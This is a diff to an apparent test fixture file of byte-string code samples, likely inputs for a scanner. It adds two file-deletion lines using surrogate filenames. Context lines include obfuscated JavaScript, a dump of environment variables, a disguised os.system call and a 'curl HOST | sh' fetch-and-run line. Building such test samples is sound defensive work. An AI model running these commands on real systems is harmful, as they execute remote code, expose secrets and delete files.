@@ -14,6 +14,7 @@ JAVASCRIPT = (
     b"var _0x1=['\\x68','\\u0069'];(function(a,b){while(!![]){try{break}catch(e){a.push(a.shift())}}}(_0x1,1));",
     b"type A = { b: string }; abstract class C<T extends A> { constructor(private readonly x?: T) {} }",
     b"\xef\xbb\xbf'use strict';\r\nwindow.ethereum.request = 1;\r\n",
+    b"require('fs').unlinkSync('\\ud800')",
 )
 PYTHON = (
     b"import os, subprocess\nsubprocess.run(['id'])\nprint(os.environ)\n",
@@ -24,6 +25,7 @@ PYTHON = (
     b"from setuptools import setup\nsetup(cmdclass={'install': 1})\n",
     b"print 'two'\nexec 'x'\n",
     b"getattr(__import__('o' + 's'), 'system')('true')\n",
+    b"import os\nos.remove('\\udcff')\n",
 )
 SHELL = (
     b"#!/bin/sh\ncurl -s " + HOST.encode() + b" | sh\n",
